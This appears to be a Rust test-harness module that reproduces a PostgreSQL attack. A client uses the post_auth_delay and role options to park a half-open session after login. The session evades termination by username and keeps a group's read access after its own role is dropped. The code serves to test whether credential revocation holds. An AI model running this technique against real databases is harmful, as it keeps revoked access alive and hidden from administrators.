//! The attack of RULES R-7: a client asks the server itself to hold it back after its login was checked. Nobody sees it,
//! nothing that works by name ends it, and with `role=` it keeps a group's rights when its own role is gone.

use std::time::Duration;

use async_trait::async_trait;
use leasehold_client::Credential;
use tokio::task::JoinHandle;
use tokio_postgres::{Client, Config, Error};

use super::ground::{Attacker, Late};
use super::postgres::{Postgres, connect, failed};
use super::story::{Failure, Patience, Seen};
use crate::dev::admin_role::told;

/// How the attacker logs in: held back for three seconds, in the group's role.
const OPTIONS: &str = "-c post_auth_delay=3 -c role=orders_reader";
const CONTROL: &str = "control";
/// Nothing lies behind it: the role is dropped at once.
const CONTROL_PASSWORD: &str = "control";
const PATIENCE: Duration = Duration::from_secs(10);
/// A login that is there at two looks so far apart is not only slow.
const ASLEEP: Duration = Duration::from_millis(200);

const HALF_WAY: &str = "\
    SELECT pid FROM pg_stat_activity WHERE backend_type = 'client backend' AND usesysid IS NULL \
    UNION SELECT l.pid FROM pg_locks l WHERE l.locktype = 'virtualxid' AND l.pid IS NOT NULL \
    AND NOT EXISTS (SELECT FROM pg_stat_activity a WHERE a.pid = l.pid)";

#[async_trait]
impl Attacker for Postgres {
    async fn control(&self) -> Seen<u64> {
        let root = self.superuser();
        let make = format!("CREATE ROLE {CONTROL} LOGIN PASSWORD '{CONTROL_PASSWORD}' IN ROLE orders_reader");
        root.batch_execute(&make).await.map_err(failed)?;
        let late = self.park(self.route(CONTROL, CONTROL_PASSWORD.as_bytes())).await?;
        for step in [
            format!("ALTER ROLE {CONTROL} NOLOGIN"),
            format!("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = '{CONTROL}'"),
            format!("DROP ROLE {CONTROL}"),
        ] {
            root.batch_execute(&step).await.map_err(failed)?;
        }
        late.rows().await?.map_err(|told| Failure::new(format!("the plain way was enough here: {told}")))
    }

    async fn begin(&self, credential: &Credential) -> Seen<Box<dyn Late>> {
        Ok(Box::new(self.park(self.route_of(credential)?).await?))
    }

    async fn half_way(&self) -> Seen<usize> {
        Ok(pids(self.superuser()).await?.len())
    }
}

impl Postgres {
    async fn park(&self, mut route: Config) -> Seen<HalfWay> {
        route.options(OPTIONS);
        let before = pids(self.superuser()).await?;
        let login = tokio::spawn(async move { connect(&route).await });
        let mut patience = Patience::new("a login that is half-way", PATIENCE);
        while !self.is_asleep(&before).await? {
            patience.next().await?;
        }
        Ok(HalfWay(login))
    }

    /// Whether a login that was not there before stays half-way.
    async fn is_asleep(&self, before: &[i32]) -> Seen<bool> {
        let first = pids(self.superuser()).await?;
        tokio::time::sleep(ASLEEP).await;
        let second = pids(self.superuser()).await?;
        Ok(first.iter().any(|pid| !before.contains(pid) && second.contains(pid)))
    }
}

async fn pids(root: &Client) -> Seen<Vec<i32>> {
    let rows = root.query(HALF_WAY, &[]).await.map_err(failed)?;
    rows.iter().map(|row| Ok(row.try_get(0)?)).collect()
}

/// A login that the server has let in and does not show.
struct HalfWay(JoinHandle<Result<Client, Error>>);

impl HalfWay {
    async fn rows(self) -> Seen<Result<u64, String>> {
        let client = match self.0.await? {
            Ok(client) => client,
            Err(error) => return Ok(Err(told(&error))),
        };
        match client.query_one("SELECT count(*) FROM orders", &[]).await {
            Ok(row) => Ok(Ok(u64::try_from(row.try_get::<_, i64>(0)?)?)),
            Err(error) => Ok(Err(told(&error))),
        }
    }
}

#[async_trait]
impl Late for HalfWay {
    async fn outcome(self: Box<Self>) -> Seen<Result<u64, String>> {
        self.rows().await
    }
}
